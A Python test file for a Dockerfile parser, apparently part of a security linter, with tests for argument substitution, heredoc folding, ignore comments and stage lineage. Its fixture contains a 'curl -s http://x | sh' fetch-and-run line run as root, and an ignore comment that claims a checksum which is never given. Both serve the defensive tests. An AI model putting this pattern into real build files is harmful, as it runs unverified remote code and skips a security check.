from __future__ import annotations

from bulkhead.sources.dockerfile import parse_arg, parse_dockerfile

DOCKERFILE = """\
ARG PY=3.12 REG="registry.example.com"
ARG BASE=${REG}/python:${PY}-slim
FROM $BASE AS build
# bulkhead:ignore DF004 installer verified by checksum below
RUN <<EOF
curl -s http://x | sh
FROM evil
USER root
EOF
FROM build
USER 101
"""


def test_global_args_resolve_in_order_and_substitute_into_from() -> None:
    dockerfile = parse_dockerfile(DOCKERFILE, "Dockerfile")
    assert dict(dockerfile.global_args) == {
        "PY": "3.12",
        "REG": "registry.example.com",
        "BASE": "registry.example.com/python:3.12-slim",
    }
    assert [(s.name, s.image, s.line) for s in dockerfile.stages] == [
        ("build", "registry.example.com/python:3.12-slim", 3),
        (None, "build", 10),
    ]


def test_heredoc_body_is_folded_into_its_instruction() -> None:
    dockerfile = parse_dockerfile(DOCKERFILE, "Dockerfile")
    keywords = [(i.keyword, i.line, i.stage) for i in dockerfile.instructions]
    assert keywords == [
        ("ARG", 1, -1),
        ("ARG", 2, -1),
        ("FROM", 3, 0),
        ("RUN", 5, 0),
        ("FROM", 10, 1),
        ("USER", 11, 1),
    ]
    run = dockerfile.instructions[3]
    assert run.value.splitlines()[1:] == ["curl -s http://x | sh", "FROM evil", "USER root", "EOF"]
    assert run.end_line == 9


def test_ignore_comments_and_lineage() -> None:
    dockerfile = parse_dockerfile(DOCKERFILE, "Dockerfile")
    [ignore] = dockerfile.ignores
    assert (ignore.controls, ignore.reason, ignore.line, ignore.applies_to_line) == (
        ("DF004",),
        "installer verified by checksum below",
        4,
        5,
    )
    final = dockerfile.final_stage
    assert final is not None
    assert [s.index for s in dockerfile.lineage(final)] == [1, 0]


def test_parse_arg_forms() -> None:
    assert parse_arg('A=1 B="two words" C') == [("A", "1"), ("B", "two words"), ("C", None)]
    assert parse_arg("UNBALANCED='x") == [("UNBALANCED", "'x")]
